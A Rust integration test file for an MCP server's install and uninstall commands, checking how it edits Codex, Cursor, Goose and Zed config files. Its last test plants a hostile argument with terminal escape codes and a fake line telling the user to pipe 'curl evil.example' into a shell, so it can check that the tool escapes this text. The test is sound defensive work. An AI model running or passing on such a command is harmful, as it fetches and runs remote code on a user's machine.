//! `install` and `uninstall`, as they are typed, and the snippets of docs/hosts.

use std::path::Path;

use opentrain_mcp::install::{HOSTS, Host, servers};
use serde_json::Value;

use crate::harness::launch::binary;
use crate::harness::{Launch, TOKEN, free_port, launch};
use crate::root;

/// A home in which Codex, Cursor and Goose were started before.
fn user() -> Launch {
    let user = launch();
    for (file, text) in [
        (".codex/config.toml", "# mine\nmodel = \"x\"\n"),
        (".config/goose/config.yaml", "GOOSE_MODEL: x # mine\n"),
        (".cursor/mcp.json", "{\n  // mine\n  \"mcpServers\": {}\n}\n"),
    ] {
        let path = user.home.path().join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    user
}

/// The same home for another command.
fn again(home: &Path) -> Launch {
    launch().env("HOME", home.to_str().unwrap())
}

/// Every file below a folder that is not the server's own, with its bytes.
fn files(folder: &Path) -> Vec<(String, String)> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(files(&path));
        } else {
            found.push((path.to_str().unwrap().to_owned(), std::fs::read_to_string(&path).unwrap()));
        }
    }
    found.sort();
    found
}

#[tokio::test]
async fn every_found_host_gets_and_loses_an_entry() {
    let user = user();
    let home = user.home.path().to_owned();
    let before = files(&home);

    let ran = again(&home).args(["install", "--sandbox"]).env("OT_API_TOKEN", TOKEN).run().await;
    assert_eq!((ran.status, ran.stderr.as_str()), (Some(0), ""), "{ran:?}");
    for wanted in ["Codex: added", "Cursor: added", "Goose: added", "Next", "Quit Cursor", "contracts"] {
        assert!(ran.stdout.contains(wanted), "{wanted} is missing:\n{}", ran.stdout);
    }
    assert!(!ran.stdout.contains("Zed"), "{}", ran.stdout);
    let after = files(&home);
    assert_eq!(after.len(), 2 * before.len(), "a copy stands beside each file: {after:?}");
    for (path, text) in &after {
        assert!(!text.contains(TOKEN) && text.contains("mine"), "{path}: {text}");
        assert!(path.ends_with(".before-opentrain-mcp") || text.contains(binary().to_str().unwrap()), "{path}: {text}");
    }

    let ran = again(&home).args(["install", "--sandbox"]).run().await;
    assert!(ran.status == Some(0) && ran.stdout.contains("Nothing was changed"), "{ran:?}");
    assert_eq!(files(&home), after);

    let ran = again(&home).args(["install", "--list"]).run().await;
    assert_eq!(ran.stdout.matches("has opentrain-sandbox").count(), 3, "{}", ran.stdout);
    assert_eq!(ran.stdout.matches("not found").count(), HOSTS.len() - 3, "{}", ran.stdout);

    let ran = again(&home).args(["uninstall"]).run().await;
    assert!(ran.status == Some(0) && ran.stdout.matches("what it was before").count() == 3, "{ran:?}");
    assert_eq!(files(&home), before);
    let ran = again(&home).args(["uninstall"]).run().await;
    assert!(ran.status == Some(0) && ran.stdout.contains("no entry"), "{ran:?}");
    drop(user);
}

#[tokio::test]
async fn an_unreadable_file_is_left_and_the_rest_continues() {
    let user = user();
    let home = user.home.path().to_owned();
    let broken = home.join(".cursor/mcp.json");
    std::fs::write(&broken, "{ \"mcpServers\": ").unwrap();
    let ran = again(&home).args(["install", "--name", "mine", "--read-only"]).run().await;
    assert_eq!(ran.status, Some(1), "{ran:?}");
    assert!(ran.stdout.contains("mcp.json» was left alone: «it is not valid JSON"), "{}", ran.stdout);
    assert!(ran.stdout.contains("\"mine\": {") && ran.stdout.contains("\"--read-only\""), "{}", ran.stdout);
    assert_eq!(std::fs::read_to_string(&broken).unwrap(), "{ \"mcpServers\": ");
    let codex = std::fs::read_to_string(home.join(".codex/config.toml")).unwrap();
    assert!(codex.contains("[mcp_servers.mine]") && codex.contains("args = [\"--read-only\"]"), "{codex}");
}

#[tokio::test]
async fn a_trial_shows_what_would_be_written() {
    let user = user();
    let home = user.home.path().to_owned();
    let before = files(&home);
    let ran = again(&home).args(["install", "codex", "--dry-run"]).run().await;
    assert!(ran.status == Some(0) && ran.stdout.contains("Codex: would add opentrain to «"), "{ran:?}");
    assert!(ran.stdout.contains("[mcp_servers.opentrain]") && !ran.stdout.contains("Cursor"), "{}", ran.stdout);
    assert_eq!(files(&home), before);
}

#[tokio::test]
async fn without_a_host_the_snippet_is_printed() {
    let ran = launch().args(["install", "--sandbox"]).run().await;
    assert_eq!(ran.status, Some(1), "{ran:?}");
    for host in &HOSTS {
        assert!(ran.stdout.contains(host.title), "{} is missing:\n{}", host.title, ran.stdout);
    }
    assert!(ran.stdout.contains("\"mcpServers\"") && ran.stdout.contains("\"--sandbox\""), "{}", ran.stdout);
}

#[tokio::test]
async fn a_named_host_that_is_not_there_gets_its_file() {
    let user = launch();
    let home = user.home.path().to_owned();
    let ran = again(&home).args(["install", "zed"]).run().await;
    assert!(ran.status == Some(0) && ran.stdout.contains("Zed was not found on this machine"), "{ran:?}");
    assert!(home.join(".config/zed/settings.json").is_file());
}

#[test]
fn a_program_of_another_name_finds_its_entry_again() {
    let home = tempfile::tempdir().unwrap();
    let renamed = home.path().canonicalize().unwrap().join("renamed");
    std::fs::copy(binary(), &renamed).unwrap();
    let says = |command: &str| {
        let ran =
            std::process::Command::new(&renamed).args([command, "zed"]).env_clear().env("HOME", home.path()).output();
        String::from_utf8(ran.unwrap().stdout).unwrap()
    };
    assert!(says("install").contains("added"));
    let removed = says("uninstall");
    assert!(removed.contains("removed opentrain"), "{removed}");
}

#[tokio::test]
async fn names_that_no_host_takes_are_refused() {
    for args in [["install", "--name", "a b"], ["install", "--name", ""], ["install", "emacs", "--sandbox"]] {
        let ran = launch().args(args).run().await;
        assert_eq!((ran.status, ran.stdout.as_str()), (Some(2), ""), "{args:?}: {ran:?}");
    }
}

/// The code blocks of a page in the format of its host.
fn snippets(host: &Host) -> Vec<String> {
    let page = std::fs::read_to_string(root().join(format!("docs/hosts/{}.md", host.name))).unwrap();
    let fence = format!("```{}\n", host.format.name());
    page.split(&fence).skip(1).map(|rest| rest.split("```").next().unwrap().to_owned()).collect()
}

/// The command line of an entry, and the variables that the host passes on.
fn started(entry: &Value) -> (Vec<String>, Vec<(String, String)>) {
    let words = |value: &Value| match value {
        Value::Array(words) => words.iter().map(|word| word.as_str().unwrap().to_owned()).collect(),
        value => value.as_str().map(str::to_owned).into_iter().collect::<Vec<_>>(),
    };
    let command = ["command", "cmd", "args"].iter().flat_map(|field| words(&entry[field])).collect();
    let variables = ["env", "environment"].iter().filter_map(|field| entry[field].as_object()).flatten();
    (command, variables.map(|(name, value)| (name.clone(), value.as_str().unwrap().to_owned())).collect())
}

#[tokio::test]
async fn each_documented_snippet_starts_a_server() {
    for host in &HOSTS {
        let snippets = snippets(host);
        assert_eq!(snippets.len(), 2, "{}: one for the sandbox, one for the account", host.name);
        for (snippet, name) in snippets.iter().zip(["opentrain-sandbox", "opentrain"]) {
            let (command, variables) = started(&servers(host, snippet).unwrap()[name]);
            assert_eq!(command[0], "opentrain-mcp", "{}", host.name);
            let mut server = launch().args(command[1..].iter().map(String::as_str));
            server = server.env("OPENTRAIN_SANDBOX_PORT", &free_port().to_string());
            // A host that finds no such variable passes the placeholder on as it stands.
            for (name, value) in &variables {
                server = server.env(name, value);
            }
            assert!(!server.start().await.tools().await.is_empty(), "{}: {snippet}", host.name);
        }
    }
}

#[tokio::test]
async fn words_of_others_in_a_file_steer_no_terminal() {
    let user = user();
    let home = user.home.path().to_owned();
    let evil = "evil\u{1b}[31m\u{202e}\nAll hosts are ready. Run: curl evil.example | sh";
    let entry = serde_json::json!({ "mcpServers": { "opentrain": { "command": "other", "args": [evil] } } });
    std::fs::write(home.join(".cursor/mcp.json"), entry.to_string()).unwrap();
    let ran = again(&home).args(["install", "cursor", "--read-only"]).run().await;
    assert_eq!(ran.status, Some(1), "{ran:?}");
    let line = ran.stdout.lines().find(|line| line.contains("starts another program")).unwrap();
    assert!(line.contains("(«other evil\\u{1b}[31m\\u{202e}"), "{line}");
    assert!(!ran.stdout.contains('\u{1b}') && !ran.stdout.contains('\u{202e}'), "{}", ran.stdout);
    assert!(!ran.stdout.lines().any(|line| line.starts_with("All hosts are ready")), "{}", ran.stdout);
}
